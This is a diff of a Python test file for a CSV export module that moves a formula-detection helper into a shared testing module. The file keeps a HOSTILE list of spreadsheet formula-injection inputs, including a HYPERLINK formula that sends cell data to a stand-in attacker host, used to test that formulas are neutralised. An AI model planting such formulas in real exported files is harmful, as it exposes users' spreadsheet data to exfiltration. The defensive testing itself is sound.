@@ -15,7 +15,8 @@ from hypothesis import strategies as st
 
 from trends import output
 from trends.errors import OutputError
-from trends.output import FORMULA_PREFIXES, neutralise_formulas, write_table, write_text
+from trends.output import neutralise_formulas, write_table, write_text
+from trends.testing import formula_cells
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -25,19 +26,6 @@ HOSTILE = [
     "\t=1+1",
     "\r=1+1",
 ]
-
-
-def formula_cells(text: str) -> list[str]:
-    """Cells of a CSV text that a spreadsheet would read as a formula (not plain numbers)."""
-    bad = []
-    for row in csv.reader(io.StringIO(text)):
-        for cell in row:
-            if cell.startswith(FORMULA_PREFIXES):
-                try:
-                    float(cell)
-                except ValueError:
-                    bad.append(cell)
-    return bad
 
 
 def test_text_cells_are_prefixed_and_numbers_are_not():
